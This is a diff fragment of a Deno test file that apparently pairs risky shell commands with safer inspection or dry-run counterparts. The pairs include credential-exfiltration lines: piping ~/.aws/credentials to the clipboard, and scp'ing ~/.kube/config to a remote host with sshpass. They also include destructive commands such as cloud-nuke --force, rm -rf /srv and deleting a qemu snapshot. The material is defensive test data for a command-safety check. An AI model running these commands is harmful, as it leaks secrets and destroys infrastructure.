@@ -275,6 +275,17 @@ Deno.test("a trial run that there is, and what is looked at, are those of the co
       "cloud-nuke aws --force --region eu-west-1",
       "cloud-nuke aws --region eu-west-1 --dry-run",
     ],
+    [
+      "qemu-img snapshot -d s1 a.qcow2",
+      "qemu-img snapshot -l a.qcow2 # look for s1",
+    ],
+    // What another program tells of a file has no list with that file in it.
+    ["xclip -sel clip < ~/.aws/credentials", "aws configure list"],
+    ["sshpass -p x scp ~/.kube/config u@h.test:/in", "kubectl config view"],
+    [
+      "argocd app sync shop",
+      "# check first: what the state is now, who is affected, and how it is put back (shop)",
+    ],
     ["gsutil versioning set off gs://acme", "gsutil versioning get gs://acme"],
     // The file that the shell has open for it is nobody else's.
     ["xargs --arg-file=<(echo /srv) rm -rf", "ls -la /srv"],
